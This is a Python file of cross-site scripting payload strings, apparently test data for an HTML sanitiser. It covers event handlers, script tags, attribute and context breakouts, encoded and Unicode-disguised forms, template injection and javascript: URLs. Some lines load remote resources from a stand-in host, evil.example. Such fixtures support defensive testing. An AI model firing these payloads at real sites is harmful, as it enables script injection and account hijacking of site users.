"""What people who mean harm write into forms. Each calls `alert` where a page takes it for more than text."""

EVENTS = [
    "<img src=x onerror=alert(1)>", "<img src onerror=alert(1)//", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<body onload=alert(1)>", "<video src onerror=alert(1)>", "<audio src onerror=alert(1)>",
    "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x", "<object data=x onerror=alert(1)>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>", "<iframe onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>",
    "<p style='animation:x' onanimationstart=alert(1)>x</p>", "<embed src=x onerror=alert(1)>",
    "<a autofocus href=x tabindex=1 onfocus=alert(1)>x", "<xss contenteditable autofocus onfocus=alert(1)>x",
    "<img srcset=x onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<svg><image href=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>", "<body onfocus=alert(1) autofocus>", "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x></template><img src=x onerror=alert(1)>",
]
SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script src=data:,alert(1)></script>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />", "<script type=module>alert(1)</script>",
    "<script>alert`1`</script>", "<script>self['al'+'ert'](1)</script>", "<script>\\u0061lert(1)</script>",
    "<math><script>alert(1)</script></math>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><svg onload=alert(1)>*/</script>", "<script><!--\nalert(1)//--></script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>",
    "<iframe src=javascript:parent.alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form><button autofocus onfocus=alert(1)>x</button></form>",
]
BREAKS = [
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", " autofocus onfocus=alert(1) x=",
    '" onpointerrawupdate=alert(1) autofocus onfocus=alert(1) "', '"/><svg onload=alert(1)>', "`><svg onload=alert(1)>",
    '\\"><img src=x onerror=alert(1)>', "</title><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>", "</script><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>", "</option></select><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>", "</svg><img src=x onerror=alert(1)>",
    "</iframe><svg onload=alert(1)>", "';alert(1);//", '";alert(1);//', "`;alert(1);//", "${alert(1)}", "\\';alert(1);//",
    "</li></ol><img src=x onerror=alert(1)>", "</a><img src=x onerror=alert(1)>", "</button><img src=x onerror=alert(1)>",
]
DISGUISED = [
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cimg src=x onerror=alert(1)%3E", "\\u003cimg src=x onerror=alert(1)\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜img src=x onerror=alert(1)＞", "<img\u2028src=x onerror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\u00a0=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
    "<\u200bimg src=x onerror=alert(1)>", "\u202e>(1)trela=rorreno x=crs gmi<", "<img src=x onerror=alert(1)\u202e>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<<img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>",
    "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml x><img src=x onerror=alert(1)>",
    "{{{x}}}<img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "[[x]]", "{{>layout}}",
    "{{=<% %>=}}<img src=x onerror=alert(1)>", "<%= alert(1) %>",
]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)",
    "//evil.example/x.js", "/\\evil.example", "https://evil.example", "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=import href=data:text/html,x>",
    "[x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<style>@import '//evil.example/x.css';</style>", "<x style='background:url(//evil.example/x)'>",
]
ALL = EVENTS + SCRIPTS + BREAKS + DISGUISED + ADDRESSES
